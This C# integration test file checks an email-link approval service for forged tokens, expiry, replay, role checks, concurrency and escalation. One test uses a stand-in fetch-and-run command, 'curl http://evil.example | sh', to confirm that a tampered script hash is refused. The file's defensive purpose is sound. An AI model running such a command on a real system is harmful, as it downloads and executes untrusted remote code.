using System.Net;
using System.Text.Json.Nodes;
using AeonNova.Approvals;
using AeonNova.Approvals.Links;
using AeonNova.Local.Approvals;

namespace AeonNova.Local.Tests.Approvals;

[Trait("Category", "Integration")]
public sealed class ApprovalHttpIntegrationTests
{
    private static readonly CancellationToken None = CancellationToken.None;

    [Fact]
    public async Task GetAndHead_WhenLinkPrefetchedRepeatedly_ShouldNeverDecide()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var url = prepared.Links[0].Url;

        for (var i = 0; i < 3; i++)
        {
            var get = new HttpRequestMessage(HttpMethod.Get, url);
            get.Headers.UserAgent.ParseAdd("SafeLinksScanner/2.0");
            var (getResponse, body) = await host.SendAsync(get);
            Assert.Equal(HttpStatusCode.OK, getResponse.StatusCode);
            Assert.Contains("Approve this remediation?", body, StringComparison.Ordinal);
            var (headResponse, headBody) = await host.SendAsync(new HttpRequestMessage(HttpMethod.Head, url));
            Assert.Equal(HttpStatusCode.OK, headResponse.StatusCode);
            Assert.Equal("", headBody);
        }

        var record = await host.Store.GetAsync(prepared.ApprovalId, None);
        Assert.Equal(ApprovalStatus.Pending, record!.Status);
        Assert.Null(record.Decision);
        Assert.Empty(host.Callback.Successes);
        var audit = await host.Store.GetAuditAsync(prepared.ApprovalId, None);
        Assert.Equal(3, audit.Count(a => a.Action == "view" && a.UserAgent == "SafeLinksScanner/2.0" && a.Ip == "127.0.0.1" && a.Actor == "oncall@example.com"));
        Assert.Equal(3, audit.Count(a => a.Action == "head"));
    }

    [Fact]
    public async Task Post_WhenFormFromPageIsSubmitted_ShouldApproveOnceAndCompleteTaskToken()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(prepared.Links[0].Url);

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "approve");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("<h1>Approved</h1>", body, StringComparison.Ordinal);
        var (token, output) = Assert.Single(host.Callback.Successes);
        Assert.Equal(ApprovalTestHost.TaskToken, token);
        Assert.Equal("approved", (string?)JsonNode.Parse(output)!["decision"]);
        Assert.Equal("integration test", (string?)JsonNode.Parse(output)!["comment"]);
    }

    [Fact]
    public async Task Post_WhenTokenForged_ShouldShowInvalidPageAndNotDecide()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(prepared.Links[0].Url);
        form["t"] = LinkTokens.NewToken(new CryptoRandomSource());

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "approve");
        var (getResponse, _) = await host.GetAsync($"/approvals/{prepared.ApprovalId}?t={form["t"]}");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, getResponse.StatusCode);
        Assert.Contains("Link not valid", body, StringComparison.Ordinal);
        Assert.DoesNotContain("web-1", body, StringComparison.Ordinal);
        Assert.Empty(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenApprovalExpired_ShouldShowExpiredPage()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(prepared.Links[0].Url);
        host.Clock.Advance(TimeSpan.FromMinutes(16));

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "approve");

        Assert.Equal(HttpStatusCode.Gone, response.StatusCode);
        Assert.Contains("This approval has expired", body, StringComparison.Ordinal);
        Assert.Empty(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenReplayed_ShouldShowAlreadyDecidedByWhomAndWhen()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(prepared.Links[0].Url);
        await host.PostAsync(prepared.ApprovalId, form, "approve");

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "reject");

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        Assert.Contains("already approved by Alex Kim (On call) at", body, StringComparison.Ordinal);
        Assert.Single(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenTokenIssuedForAnotherApproval_ShouldShowInvalidPage()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var target = await host.CreateReadyAsync();
        var other = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(target.Links[0].Url);
        form["t"] = ApprovalFixtures.TokenOf(other.Links[1]);

        var (response, _) = await host.PostAsync(target.ApprovalId, form, "approve");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Empty(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenScriptHashTampered_ShouldRefuseWithConflict()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var form = await host.OpenFormAsync(prepared.Links[0].Url);
        form["scriptSha256"] = LinkTokens.ScriptSha256("curl http://evil.example | sh\n");

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "approve");

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        Assert.Contains("The script does not match", body, StringComparison.Ordinal);
        Assert.Equal(ApprovalStatus.Pending, (await host.Store.GetAsync(prepared.ApprovalId, None))!.Status);
        Assert.Empty(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenApproverRoleNotAllowedByCurrentPolicy_ShouldRefuseWith403()
    {
        var original = ApprovalFixtures.LoadPolicy();
        var demoted = original with
        {
            People = [.. original.People.Select(p => p.Email == "oncall@example.com" ? p with { Role = ApproverRole.Developer } : p)],
        };
        await using var host = await ApprovalTestHost.StartAsync(demoted);
        // The links went out under the original policy (same database), then Alex was demoted.
        var creator = new ApprovalService(new SqliteApprovalStore(host.DatabasePath), host.Callback, original,
            new ApprovalServiceOptions { BaseUrl = host.BaseUrl }, host.Clock, new CryptoRandomSource());
        var prepared = await host.CreateReadyAsync(creator);
        var form = await host.OpenFormAsync(prepared.Links.Single(l => l.Email == "oncall@example.com").Url);

        var (response, body) = await host.PostAsync(prepared.ApprovalId, form, "approve");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("Not allowed to decide", body, StringComparison.Ordinal);
        Assert.Empty(host.Callback.Successes);
    }

    [Fact]
    public async Task Post_WhenFiftyArriveInParallel_ShouldDecideExactlyOnceInSqlite()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var clients = prepared.Links.Select(_ => host.NewBrowserLikeClient()).ToList();
        var forms = new List<Dictionary<string, string>>();
        for (var i = 0; i < clients.Count; i++)
        {
            forms.Add(await host.OpenFormAsync(prepared.Links[i].Url, clients[i]));
        }

        var results = await Task.WhenAll(Enumerable.Range(0, 50).Select(i => Task.Run(() =>
            host.PostAsync(prepared.ApprovalId, forms[i % clients.Count], i % 2 == 0 ? "approve" : "reject", clients[i % clients.Count]))));

        Assert.Single(results, r => r.Response.StatusCode == HttpStatusCode.OK);
        Assert.Equal(49, results.Count(r => r.Response.StatusCode == HttpStatusCode.Conflict && r.Body.Contains("Already decided", StringComparison.Ordinal)));
        Assert.Single(host.Callback.Successes);
        Assert.Empty(host.Callback.Failures);
        var record = await host.Store.GetAsync(prepared.ApprovalId, None);
        Assert.Single(await host.Store.GetAuditAsync(prepared.ApprovalId, None), a => a.Action == "decision");
        Assert.Contains($"by {record!.Decision!.By} at", results.First(r => r.Response.StatusCode == HttpStatusCode.Conflict).Body, StringComparison.Ordinal);
        clients.ForEach(c => c.Dispose());
    }

    [Fact]
    public async Task Escalation_WhenTierTimesOut_ShouldStopOldLinksAndLetTheNextTierDecide()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var oldForm = await host.OpenFormAsync(prepared.Links[0].Url);
        host.Clock.Advance(TimeSpan.FromMinutes(15));

        var next = (await host.Service.EscalateAsync(prepared.ApprovalId, None)).Next!;
        await host.Service.RegisterTaskTokenAsync(prepared.ApprovalId, ApprovalTestHost.TaskToken, None);

        var (oldGet, oldBody) = await host.GetAsync(prepared.Links[0].Url);
        var (oldPost, _) = await host.PostAsync(prepared.ApprovalId, oldForm, "approve");
        Assert.Equal(HttpStatusCode.Gone, oldGet.StatusCode);
        Assert.Contains("This link is no longer valid", oldBody, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Gone, oldPost.StatusCode);
        Assert.Empty(host.Callback.Successes);

        var newForm = await host.OpenFormAsync(next.Links[0].Url);
        var (newPost, newBody) = await host.PostAsync(prepared.ApprovalId, newForm, "reject");
        Assert.Equal(HttpStatusCode.OK, newPost.StatusCode);
        Assert.Contains("<h1>Rejected</h1>", newBody, StringComparison.Ordinal);
        Assert.Equal("cto@example.com", (await host.Store.GetAsync(prepared.ApprovalId, None))!.Decision!.ByEmail);
    }

    [Fact]
    public async Task Outbox_WhenEmailWritten_ShouldHoldTheLinkButNotTheTaskToken()
    {
        await using var host = await ApprovalTestHost.StartAsync();
        var prepared = await host.CreateReadyAsync();
        var outbox = new AeonNova.Approvals.Email.EmlOutbox(Path.Combine(host.DataDir, "outbox"), TextWriter.Null, host.Clock, new CryptoRandomSource());
        var emails = await host.Service.DeliverAsync(prepared.ApprovalId, None);

        var paths = new List<string>();
        foreach (var email in emails)
        {
            paths.Add(await outbox.WriteAsync(email, prepared.ApprovalId, None));
        }

        Assert.Equal(emails.Count, paths.Count);
        var link = emails[0].Links[0].Url;
        var eml = await File.ReadAllTextAsync(paths[0]);
        Assert.Contains(link, eml, StringComparison.Ordinal);
        Assert.DoesNotContain(ApprovalTestHost.TaskToken, eml, StringComparison.Ordinal);
        // The link from the outbox opens the page over HTTP.
        var (response, _) = await host.GetAsync(link);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }
}
